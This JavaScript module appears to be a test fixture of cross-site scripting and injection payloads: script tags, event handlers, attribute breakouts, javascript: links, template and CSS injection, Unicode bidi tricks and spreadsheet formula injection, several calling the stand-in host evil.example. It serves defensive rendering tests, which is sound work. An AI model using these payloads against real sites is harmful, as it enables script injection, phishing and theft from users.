// Texts that a page must show as they are. Each that is run sets window.canary, opens a dialog, asks another
// host for something or leaves an element with the mark x-pwn.

const run = 'window.canary=1';
const evil = 'https://evil.example';

/** The classes of payloads. */
export const classes = {
  tags: [
    `<script>${run}</script>`,
    `<script src="${evil}/x.js"></script>`,
    `<SCRIPT>${run}</SCRIPT>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<iframe srcdoc="<script>parent.${run}</script>" x-pwn></iframe>`,
    `<object data="javascript:${run}" x-pwn></object>`,
    `<embed src="${evil}/x.swf" x-pwn>`,
    `<base href="${evil}/" x-pwn>`,
    `<meta http-equiv="refresh" content="0;url=${evil}/" x-pwn>`,
    `<link rel="stylesheet" href="${evil}/x.css" x-pwn>`,
    `<form action="${evil}" x-pwn><button>Log in</button></form>`,
    `<template shadowrootmode="open"><script>${run}</script></template>`,
  ],
  handlers: [
    `<img src=x onerror=${run} x-pwn>`,
    `<IMG SRC=x ONERROR="${run}" x-pwn>`,
    `<img/src="x"/onerror=${run}//x-pwn>`,
    `<body onload=${run} x-pwn>`,
    `<details open ontoggle=${run} x-pwn>x</details>`,
    `<input autofocus onfocus=${run} x-pwn>`,
    `<video><source onerror=${run} x-pwn></video>`,
    `<marquee onstart=${run} x-pwn>x</marquee>`,
    `<div style="animation-name:wait" onanimationstart=${run} x-pwn>x</div>`,
    `<button popovertarget=p>x</button><div popover id=p onbeforetoggle=${run} x-pwn>x</div>`,
  ],
  attributes: [
    `" autofocus onfocus="${run}" x-pwn="`,
    `' onmouseover='${run}' x-pwn='`,
    `"><img src=x onerror=${run} x-pwn>`,
    `'><svg/onload=${run} x-pwn>`,
    `\` onerror=${run} x-pwn=\``,
    `x" style="background:url(${evil}/x.png)" x-pwn="`,
  ],
  links: [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    `java\tscript:${run}`,
    `\u0001javascript:${run}`,
    `data:text/html,<script>parent.${run}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `<a href="javascript:${run}" x-pwn>x</a>`,
    `//evil.example/x`,
    `![x](${evil}/x.png) [y](javascript:${run})`,
    `../../../v1/models`,
  ],
  graphics: [
    `<svg onload=${run} x-pwn>`,
    `<svg><script href="data:,${run}" x-pwn /></svg>`,
    `<svg><animate onbegin=${run} attributeName=x dur=1s x-pwn></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='${evil}/x.png'/></svg>#x" x-pwn></use></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${run} x-pwn></style></mglyph></table></mtext></math>`,
    `<math href="javascript:${run}" x-pwn>x</math>`,
  ],
  templates: [
    `{"type":"img","props":{"src":"x","onerror":"${run}"},"constructor":null}`,
    `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${run} x-pwn>"}}`,
    `\${${run}}`,
    `<\${${run}} />`,
    `{{constructor.constructor("${run}")()}}`,
    `<%= ${run} %>#{${run}}`,
    `...$\{{dangerouslySetInnerHTML:{__html:'<i x-pwn>'}}}`,
  ],
  prototypes: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', '__proto__.canary', 'valueOf'],
  closing: [
    `</script><script>${run}</script>`,
    `</style><style>*{background:url(${evil}/x)}</style><i x-pwn>`,
    `--><script>${run}</script><!--`,
    `</title></textarea></noscript><img src=x onerror=${run} x-pwn>`,
    `]]><script>${run}</script>`,
    `*/</style><i x-pwn>/*`,
  ],
  entities: [
    `&lt;script&gt;${run}&lt;/script&gt;`,
    `&#60;img src=x onerror=${run} x-pwn&#62;`,
    `%3Cscript%3E${run}%3C/script%3E`,
    `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
    `＜script＞${run}＜/script＞`,
  ],
  styles: [
    `url(${evil}/x.png)`,
    `;background:url("${evil}/x.png");`,
    `@import "${evil}/x.css";`,
    `expression(${run})`,
  ],
  unicode: [
    'alice\u202Etxt.exe',
    'a\u2066b\u2069c\u202Dd\u202C',
    'zero\u200Bwidth\u2060joined\uFEFF',
    'Z\u0351\u0343\u0352a\u0351\u0343\u0352lgo',
    '\u0000nul\u0000<i x-pwn>',
    '\u001b[31mred\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
    'line\u2028<i x-pwn>\u2029paragraph',
    'half \ud83d surrogate',
  ],
  formulas: ['=HYPERLINK("https://evil.example","x")', '+1+cmd|\'/C calc\'!A0', '-2+3', '@SUM(1)', '\t=1+1', '＝1+1'],
  lengths: ['long'.repeat(500), 'W'.repeat(190), 'a b '.repeat(400) + `<img src=x onerror=${run} x-pwn>`],
};

export const payloads = Object.values(classes).flat();
